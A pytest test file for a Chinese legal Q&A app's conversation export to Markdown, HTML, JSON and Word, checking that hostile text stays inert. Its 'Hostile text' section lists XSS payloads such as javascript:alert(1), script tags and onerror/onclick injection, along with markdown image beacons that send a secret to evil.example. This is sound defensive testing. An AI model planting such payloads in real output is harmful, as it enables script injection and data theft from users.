from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta, timezone
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path

import docx
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from core.answer.check_results import AnswerCheck, QuotedPassage, SourceCheck, UncitedStatement, Verdict
from core.answer.events import Notice, RunEvent, RunFailed, RunStopped, SearchFinished, cut_off_notices
from core.answer.export import answer_as_markdown, as_html, as_json, as_markdown, as_word
from core.answer.message import Message
from core.base.inert_markdown import make_inert
from core.legal.case_check import CaseFinding
from core.legal.statute_checks import StatuteCheck
from core.legal.verify import StatuteFinding, StatuteMark
from core.search.types import SearchQuery, SearchResponse, Source
from support.messages import FULL

SHANGHAI = timezone(timedelta(hours=8))
NOON = 1_763_265_600.0  # 2025-11-16 12:00 in Shanghai
QUESTION = Message("user", "离婚要什么条件？\n<b>急</b>", id="q", created=NOON)
SOURCES = (
    Source(1, "民法典", "https://flk.npc.gov.cn/detail?id=1&x=2", "第一千零七十九条 …", "tavily"),
    Source(2, "没被引用", "https://example.org/two", "无关", "tavily"),
    Source(4, "最高法解释", "https://www.court.gov.cn/a_(b)_c", "感情破裂的认定", "tavily"),
)
SEARCH = SearchFinished(SearchResponse(SearchQuery("离婚 条件"), provider="tavily", search_time=0.84), SOURCES)
ANSWER = Message(
    "assistant",
    "感情确已破裂。[1][4]\n\n```python\nif a[0](x) < 1: pass\n```\n",
    (SEARCH, Notice("partial", "有 2 条结果无法读取。")),
    (SOURCES[0], SOURCES[2]),
    seconds=3.2,
    id="a",
    model="gpt-5-mini",
    created=NOON + 5,
)
TALK = (QUESTION, ANSWER)

# The strictest reader: with HTML, tables, definitions and addresses as links, as the programs that people open such
# files with.
VIEWER = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "strikethrough", "linkify"])
assert VIEWER.linkify
VIEWER.linkify.set({"fuzzy_link": False})  # as GitHub and VS Code: `README.md` is no address, `www.` is one
VIEWER.linkify.add("www.", {"validate": r"[\w.-]+"})


def tokens(markdown: str) -> list[Token]:
    found: list[Token] = []
    for token in VIEWER.parse(markdown):
        found += [token, *(token.children or ())]
    return found


def links(markdown: str) -> list[str]:
    return [str(token.attrGet("href")) for token in tokens(markdown) if token.type == "link_open"]


def dangers(markdown: str) -> list[str]:
    """Everything that loads, runs, or is a link."""
    return [
        token.type for token in tokens(markdown) if token.type in {"link_open", "image", "html_inline", "html_block"}
    ]


class Page(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(str(html))  # a piece of Markup is Markup, and would be escaped again
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in {"br", "hr", "meta"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def outside(self) -> set[str | None]:
        links = {attributes.get("href") for tag, attributes in self.tags if tag == "a"}
        return {link for link in links if not str(link).startswith("#")}


# ── What is in it ─────────────────────────────────────────────────────────────────────────────────────────────────


def test_markdown_has_everything() -> None:
    assert as_markdown("离婚 条件", TALK, zone=SHANGHAI) == (
        "# 离婚 条件\n\n"
        "## 问\n\n"
        "*2025-11-16 12:00（UTC+08:00）*\n\n"
        "离婚要什么条件？\n\\<b>急\\</b>\n\n"
        "## 答\n\n"
        "*gpt-5-mini · 2025-11-16 12:00（UTC+08:00） · 3.2 秒*\n\n"
        "感情确已破裂。[1][4]\n\n```python\nif a[0](x) < 1: pass\n```\n\n"
        "**参考文献**\n\n"
        "- \\[1\\] [民法典](https://flk.npc.gov.cn/detail?id=1&x=2) — flk.npc.gov.cn（日期不详 · 仅摘要 · 访问日期 2025-11-16）：第一千零七十九条 …\n"
        "- \\[4\\] [最高法解释](https://www.court.gov.cn/a_%28b%29_c) — court.gov.cn（日期不详 · 仅摘要 · 访问日期 2025-11-16）：感情破裂的认定\n\n"
        "> 搜索「离婚 条件」：tavily，找到 0 条，0.8 秒\n\n"
        "> 有 2 条结果无法读取。\n"
    )


AGREED = replace(
    ANSWER.with_check(
        AnswerCheck(
            (),
            (
                UncitedStatement(
                    0,
                    7,
                    "感情确已破裂。",
                    SourceCheck(Verdict.SUPPORTED, 0.9, "", (QuotedPassage(2, 0, 7, "感情确已破裂。"),)),
                ),
            ),
        )
    ),
    text="感情确已破裂。",
    cited=(),
)
"""An answer whose model wrote no number."""


def test_a_source_that_the_model_did_not_cite_is_listed_apart_and_said_in_one_wording() -> None:
    said, title = "未标注，与 [2] 相符：感情确已破裂。", "与回答相符的来源（模型没有标注）"
    markdown = answer_as_markdown(AGREED).replace("\\", "")
    page = Page(as_html("题", [QUESTION, AGREED]))
    for text in (markdown, page.text):
        assert "1 句未标注，与来源相符" in text
        assert said in text
        assert text.index(said) < text.index(title) < text.index("没被引用")
        assert "参考文献" not in text
    assert page.outside == {SOURCES[1].url}
    assert not any(str(attributes.get("href")).startswith("#") for _, attributes in page.tags), "nothing to go back to"
    answer = json.loads(as_json("题", [AGREED]))["messages"][0]
    assert answer["references"] == []
    assert [source["number"] for source in answer["agreeing"]] == [2]
    assert answer["check"]["uncited"][0]["agreesWith"] == 2


CONCLUDED = replace(
    ANSWER.with_check(
        AnswerCheck(
            (),
            (
                UncitedStatement(0, 20, "根据《民法典》第一千零七十九条，应当准予离婚。"),
                UncitedStatement(24, 34, "因此，你会离成。", is_conclusion=True),
            ),
        )
    ),
    text="根据《民法典》第一千零七十九条，应当准予离婚。因此，你会离成。",
)


def test_what_names_an_article_or_concludes_is_told_alike_in_every_format() -> None:
    cited = "《民法典》第一千零七十九条"
    found = (StatuteFinding(StatuteMark.AGREES, 2, 2 + len(cited), cited, "民法典", "第一千零七十九条"),)

    def check_statutes(_: Message) -> StatuteCheck:
        return StatuteCheck(found, found)

    markdown = answer_as_markdown(CONCLUDED, check_statutes).replace("\\", "")
    page = Page(as_html("题", [CONCLUDED], check_statutes=check_statutes)).text
    document = docx.Document(BytesIO(as_word("题", [CONCLUDED], check_statutes=check_statutes)))
    word = "\n".join(paragraph.text for paragraph in document.paragraphs)
    for text in (markdown, page, word):
        assert "1 句引述与条文一致 · 1 句结论，未核。" in text
        assert "✓ 引述与条文一致：根据《民法典》第一千零七十九条，应当准予离婚。" in text
        assert "结论，未核：因此，你会离成。" in text
        assert "无出处" not in text
    check = json.loads(as_json("题", [CONCLUDED], check_statutes=check_statutes))["messages"][0]["check"]
    assert [one["statute"]["meaning"] for one in check["statutes"]] == ["引述与条文一致"]
    assert [one["isConclusion"] for one in check["uncited"]] == [True]
    assert "1 句无出处 · 1 句结论，未核" in answer_as_markdown(CONCLUDED), "without a library nothing was compared"


def test_one_answer_for_the_clipboard() -> None:
    copied = answer_as_markdown(ANSWER)
    assert copied.startswith("感情确已破裂。[1][4]")
    assert links(copied) == ["https://flk.npc.gov.cn/detail?id=1&x=2", "https://www.court.gov.cn/a_%28b%29_c"]
    assert answer_as_markdown(Message("assistant", "没有来源。")) == "没有来源。\n"


def test_html_has_everything_and_stands_alone() -> None:
    html = as_html("离婚 <条件>", TALK, zone=SHANGHAI)
    page = Page(html)
    for wanted in ("问", "答", "离婚 <条件>", "<b>急</b>", "gpt-5-mini", "2025-11-16 12:00", "参考文献", "民法典",
                   "flk.npc.gov.cn", "第一千零七十九条", "搜索「离婚 条件」", "有 2 条结果无法读取。"):  # fmt: skip
        assert wanted in page.text, wanted
    assert "没被引用" not in page.text
    assert page.outside == {SOURCES[0].url, SOURCES[2].url}
    names = [tag for tag, _ in page.tags]
    assert not {"script", "img", "iframe", "link", "object", "form"} & set(names)
    assert not any(name.startswith("on") or name == "src" for _, attributes in page.tags for name in attributes)
    assert "url(" not in html
    policy = next(attributes["content"] for _, attributes in page.tags if "http-equiv" in attributes)
    assert str(policy).startswith("default-src 'none'")
    identities = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
    assert len(identities) == len(set(identities))


def test_two_answers_in_one_page_have_anchors_of_their_own() -> None:
    page = Page(as_html("题", (*TALK, *TALK)))
    identities = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
    assert len(identities) == len(set(identities)) == 8
    inner = [
        str(attributes["href"]) for tag, attributes in page.tags if tag == "a" and str(attributes["href"])[0] == "#"
    ]
    assert {link[1:] for link in inner} <= set(identities)


def test_json_is_the_documented_document() -> None:
    document = json.loads(as_json("离婚 条件", TALK, zone=SHANGHAI))
    assert document.pop("exported").endswith("+08:00")
    assert document == {
        "format": "wenyuan-conversation",
        "version": 1,
        "title": "离婚 条件",
        "messages": [
            {
                "id": "q",
                "role": "user",
                "label": "问",
                "text": "离婚要什么条件？\n<b>急</b>",
                "created": "2025-11-16T12:00:00+08:00",
            },
            {
                "id": "a",
                "role": "assistant",
                "label": "答",
                "text": ANSWER.text,
                "created": "2025-11-16T12:00:05+08:00",
                "model": "gpt-5-mini",
                "seconds": 3.2,
                "complete": True,
                "references": [
                    {
                        "number": 1,
                        "title": "民法典",
                        "url": "https://flk.npc.gov.cn/detail?id=1&x=2",
                        "domain": "flk.npc.gov.cn",
                        "summary": "第一千零七十九条 …",
                        "snippet": "第一千零七十九条 …",
                        "published": None,
                        "read": "snippet",
                        "accessed": "2025-11-16",
                    },
                    {
                        "number": 4,
                        "title": "最高法解释",
                        "url": "https://www.court.gov.cn/a_(b)_c",
                        "domain": "court.gov.cn",
                        "summary": "感情破裂的认定",
                        "snippet": "感情破裂的认定",
                        "published": None,
                        "read": "snippet",
                        "accessed": "2025-11-16",
                    },
                ],
                "check": None,
                "statutes": [],
                "searches": [
                    {
                        "query": "离婚 条件",
                        "type": "general",
                        "provider": "tavily",
                        "results": 0,
                        "seconds": 0.84,
                        "fromCache": False,
                    }
                ],
                "notices": ["有 2 条结果无法读取。"],
            },
        ],
    }


@pytest.mark.parametrize(
    ("last", "said"),
    [
        (RunStopped("user"), "已停止"),
        (RunFailed("model", "连接不上模型服务。"), "连接不上模型服务。"),
        (Notice("unfinished", "这条回答在写完之前中断了"), "中断了"),
        (*cut_off_notices("length"), "没有写完"),
    ],
)
def test_an_answer_that_is_not_whole_says_so(last: RunEvent, said: str) -> None:
    answer = replace(ANSWER, events=(*ANSWER.events, last))
    assert said in as_markdown("题", [answer])
    assert said in Page(as_html("题", [answer])).text
    assert json.loads(as_json("题", [answer]))["messages"][0]["complete"] is False


def test_only_what_its_reader_stopped_is_called_stopped() -> None:
    """An agent that was stopped by a limit wrote its answer all the same, and has a notice that says so."""
    limited = replace(ANSWER, events=(*ANSWER.events, RunStopped("iterations")))
    silent = replace(ANSWER, text="", events=(RunStopped("user"),))
    for export in (as_markdown, as_html):
        assert "已停止" not in export("题", [limited])
        assert "还没有写出内容" in export("题", [silent])
        assert "停止前写出的内容" not in export("题", [silent])


def test_a_search_that_failed_and_one_from_a_cache() -> None:
    failed = SearchFinished(SearchResponse(SearchQuery("问\n题"), search_time=5))
    cached = SearchFinished(SearchResponse(SearchQuery("缓存"), provider="exa", from_cache=True))
    markdown = as_markdown("题", [replace(ANSWER, events=(failed, cached))])
    assert "搜索「问 题」：没有成功，5.0 秒" in markdown
    assert "搜索「缓存」：exa，找到 0 条，0.0 秒，来自缓存" in markdown


def test_notes_of_the_program_stay_on_the_page() -> None:
    with_note = (Message("note", "已切换到 Agent 模式"), *TALK)
    for write in (as_markdown, as_html):
        assert write("题", with_note) == write("题", TALK)
    assert len(json.loads(as_json("题", with_note))["messages"]) == 2


def test_an_empty_conversation_and_a_damaged_date() -> None:
    odd = [replace(FULL, created=created, model="") for created in (float("nan"), float("inf"), -1e300, 0.0)]
    for messages in ([], odd):
        assert as_markdown(" ", messages).startswith("# 未命名的对话")
        assert "未命名的对话" in Page(as_html("", messages)).text
        assert json.loads(as_json("", messages))["title"] == "未命名的对话"


# ── Hostile text ──────────────────────────────────────────────────────────────────────────────────────────────────

HOSTILE_TITLES = [
    "](https://evil.example) [x",
    "x](javascript:alert(1))",
    "![](https://evil.example/pixel.png)",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "</title></h1><script>alert(1)</script>",
    "`code](https://evil.example)`",
    "``` \n# 标题\n\n[x]: https://evil.example",
    "\\](https://evil.example)",
    "<https://evil.example>",
    "<!-- ",
    "&#91;x&#93;(https://evil.example) &lt;b&gt;",
    "a\n\n- [x](https://evil.example)",
    "\u202e反\x00\ud800",
    "https://evil.example www.evil.example a@evil.com",
    '" onclick="alert(1)',
]
HOSTILE_URLS = [
    "javascript:alert(1)",
    "data:text/html,<script>",
    "//evil.example",
    "https://evil.example/) [x](https://worse.example",
    "https://evil.example/> <script>",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/`",
    "https://evil.example/\\",
    "https://evil.example/?a=1&lt;b&#62;",
    "https://evil.example/a\nb",
    "https:// evil.example",
]


@pytest.mark.parametrize("hostile", HOSTILE_TITLES)
def test_a_hostile_title_stays_text(hostile: str) -> None:
    source = Source(1, hostile, "https://good.example/", hostile, hostile)
    search = SearchFinished(SearchResponse(SearchQuery(hostile), provider=hostile), (source,))
    answer = Message("assistant", "是。[1]", (search, Notice("x", hostile)), (source,), model=hostile)
    markdown = as_markdown(hostile, [Message("user", "问"), answer])
    assert links(markdown) == ["https://good.example/"]
    assert dangers(markdown) == ["link_open"]
    assert [token.tag for token in tokens(markdown) if token.type == "heading_open"] == ["h1", "h2", "h2"]
    assert Page(as_html(hostile, [answer])).outside == {"https://good.example/"}
    assert "alert(1)</script>" not in as_html(hostile, [answer])
    assert json.loads(as_json(hostile, [answer]))["messages"][0]["references"][0]["number"] == 1


@pytest.mark.parametrize("hostile", HOSTILE_URLS)
def test_a_hostile_address_leads_nowhere_else(hostile: str) -> None:
    source = Source(1, "题", hostile, "摘要")
    answer = Message("assistant", "是。[1]", (), (source,))
    found = links(answer_as_markdown(answer))
    assert all(link.startswith("https://evil.example/") for link in found)
    assert len(found) == len(dangers(answer_as_markdown(answer))) <= 1
    assert all(str(link).startswith("https://evil.example/") for link in Page(as_html("题", [answer])).outside)


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?q=secret)",
        "[点我](https://evil.example)",
        "看 [1]。\n\n[1]: https://evil.example",
        "<img src=https://evil.example>",
        "<https://evil.example>",
        "\\`![](https://evil.example)\\`",
        "\\``x` ![](https://evil.example) `",
        "a `b\nc` ![](https://evil.example) `d`",
        "a `\n===\n![](https://evil.example) `",
        "- `a\n- ![](https://evil.example) `b",
        "|a|b|\n|-|-|\n|`x|![](https://evil.example) `|",
        "$$ a $$\n    ![](https://evil.example)",
        "$$ a\n```\n$$\n```\n![](https://evil.example)",
        "\\\\<img src=x>",
        "> `a\n\n![](https://evil.example) `",
        "[a][b]\n\n[b]:\nhttps://evil.example",
        "[^1]\n\n[^1]: ![](https://evil.example)",
        "见 https://evil.example/a ftp://evil.example //evil.com www.evil.example a@evil.com mailto:a@evil.com",
        "**https:**//evil.com https:/\\/evil.com www\\.evil.com a\\@evil.com https&#58;//evil.com",
        "|https://evil.example|`|\n|-|-|\n|`|www.evil.example|",
    ],
)
def test_an_answer_can_neither_link_nor_load(text: str) -> None:
    assert dangers(make_inert(text)) == []
    assert dangers(as_markdown("题", [Message("user", text), Message("assistant", text)])) == []


pieces = ["`", "``", "```", "\n", "\n\n", "    ", "- ", "> ", "|", "|-|-|\n", "===", "---", "$$", "\\", "[", "]", "(", ")",
          ":", "!", "<", ">", "img src=x", "/b", "https://e.example", "www.e.com", "a@e.com", "&#47;", "x", "1", "字", "# ", "*", "~~~", "&", "\t"]  # fmt: skip


@settings(max_examples=400)
@given(st.lists(st.sampled_from(pieces), max_size=30).map("".join))
@example("```\n\n```\n[x](https://e.example)")
def test_no_text_can_link_or_load(text: str) -> None:
    assert dangers(make_inert(text)) == []


@settings(max_examples=200)
@given(st.lists(st.sampled_from(pieces), max_size=30).map("".join))
def test_no_answer_swallows_its_references(text: str) -> None:
    assert links(answer_as_markdown(Message("assistant", text, (), SOURCES[:1]))) == [SOURCES[0].url]


@pytest.mark.parametrize(
    "text",
    [
        "普通的回答[1]，第二句【2】。\n\n## 小标题\n\n- 一\n- 二\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "`List<String>` 和 `a[0](x)`，a < b",
        "```html\n<img src=x>\n[a](b)\n```",
        "价格 $5，公式 $a_1 \\le 2$",
        "1. 一\n   ```py\n   x[0](1)\n   ```\n2. 二",
    ],
)
def test_an_ordinary_answer_stays_as_it_was_written(text: str) -> None:
    assert make_inert(text) == text


def test_an_address_is_shown_but_broken() -> None:
    assert len(links("https://a.example www.a.example a@b.com //a.com")) == 4, "the viewer would make links of them"
    shown = make_inert("见 https://a.example/b，www.a.example，`https://a.example`，A@a.example")
    assert shown.replace("\u2060", "") == "见 https://a.example/b，www.a.example，`https://a.example`，A@a.example"
    assert shown.count("https://") == 1, "in code nothing is a link"
    # Some programs resolve entities and escapes before they look for addresses.
    assert "https:/\u2060" in make_inert("https:/&#47;a.example")
    assert "www\u2060" in make_inert("www&#46;a.example")


def test_an_answer_cut_inside_code_is_closed() -> None:
    assert make_inert("看：\n\n````py\n```\nx = 1") == "看：\n\n````py\n```\nx = 1\n````"
    assert make_inert("```") == "```\n```"
    assert make_inert("```\n```") == "```\n```"
    assert make_inert("```\nx\n    ```").endswith("\n    ```\n```"), "indented that far, it closes nothing"


def test_recorded_injections(shared: Path) -> None:
    lines = (shared / "data" / "injections.jsonl").read_text("utf-8").splitlines()
    assert len(lines) > 10
    for line in lines:
        hostile = json.dumps(json.loads(line), ensure_ascii=False)
        for text in (hostile, *(value for value in json.loads(line).values() if isinstance(value, str))):
            source = Source(1, text, "https://good.example/", text)
            answer = Message("assistant", text, (), (source,))
            assert links(as_markdown(text, [answer])) == ["https://good.example/"]
            assert Page(as_html(text, [answer])).outside == {"https://good.example/"}


# ── 法条核验 ──────────────────────────────────────────────────────────────────────────────────────────────────────────


def checked(answer: Message) -> StatuteCheck:
    """A text of a model's own, checked."""
    wrong = StatuteFinding(
        StatuteMark.MISSING,
        0,
        8,
        "《灯塔法》<b>[第](http://evil.example)九十九条",
        "灯塔法",
        "第九十九条",
        note="全文共六条。",
    )
    return StatuteCheck((wrong,))


def test_checked_statutes_stand_between_text_and_references() -> None:
    markdown = as_markdown("题", TALK, check_statutes=checked)
    text, _, rest = markdown.partition("**法条核验**")
    assert "感情确已破裂" in text
    assert rest.lstrip().startswith("- ✗ 《灯塔法》")
    assert "没有这一条。全文共六条。" in rest.partition("**参考文献**")[0]
    assert not [link for link in links(markdown) if "evil" in link]
    page = Page(as_html("题", TALK, check_statutes=checked))
    assert "法条核验✗ 《灯塔法》<b>[第](http://evil.example)九十九条：没有这一条。全文共六条。参考文献" in page.text
    assert not [link for link in page.outside if "evil" in str(link)]
    (statute,) = json.loads(as_json("题", TALK, check_statutes=checked))["messages"][1]["statutes"]
    assert (statute["mark"], statute["meaning"], statute["articleNumber"]) == ("✗", "没有这一条", "第九十九条")


def case_checked(answer: Message) -> StatuteCheck:
    wrong = CaseFinding(
        StatuteMark.MISSING,
        0,
        8,
        "（2031）京01<b>[民](http://evil.example)终1号",
        "（2031）京01民终1号",
        "案号形式有误",
        "2031 年还没有到。",
        sources=(2,),
    )
    return StatuteCheck((), cases=(wrong,))


def test_checked_cases_stand_between_text_and_references() -> None:
    markdown = as_markdown("题", TALK, check_statutes=case_checked)
    rest = markdown.partition("**案号核验**")[2].partition("**参考文献**")[0]
    assert "法条核验" not in markdown
    assert "案号形式有误：2031 年还没有到。来源" in rest
    assert not [link for link in links(markdown) if "evil" in link]
    page = Page(as_html("题", TALK, check_statutes=case_checked))
    assert "案号形式有误：2031 年还没有到。来源 [2] 中有此案号。参考文献" in page.text
    assert not [link for link in page.outside if "evil" in str(link)]
    answer = json.loads(as_json("题", TALK, check_statutes=case_checked))["messages"][1]
    assert [(case["mark"], case["caseNumber"], case["sources"]) for case in answer["cases"]] == [
        ("✗", "（2031）京01民终1号", [2])
    ]
    assert "cases" not in json.loads(as_json("题", TALK))["messages"][1]


def test_without_an_index_an_export_says_nothing_about_statutes() -> None:
    assert "法条核验" not in as_markdown("题", TALK, check_statutes=lambda text: StatuteCheck((), has_index=False))
    assert json.loads(as_json("题", TALK))["messages"][1]["statutes"] == []


FILE = Source(
    3, "合同](http://evil.example) <b>.docx", "attachment:0123/合同.docx", "开头", read="file", characters=1_200
)
ATTACHED = (replace(QUESTION, files=(FILE.title,)), replace(ANSWER, text="见[3]。", events=(), cited=(FILE,)))


def test_what_was_attached_is_named_with_the_question_and_is_a_source_without_a_link() -> None:
    markdown, page = as_markdown("题", ATTACHED, zone=SHANGHAI), as_html("题", ATTACHED, zone=SHANGHAI)
    for text in (markdown, page):
        assert text.count("附件：合同") == 1
        assert "附件 · 1,200 字" in text
        assert "attachment:" not in text
        assert "访问日期" not in text
    assert links(markdown) == []
    assert "<b>" not in page
    question, answer = json.loads(as_json("题", ATTACHED, zone=SHANGHAI))["messages"]
    assert question["files"] == [FILE.title]
    assert [(one["url"], one["read"]) for one in answer["references"]] == [("", "file")]
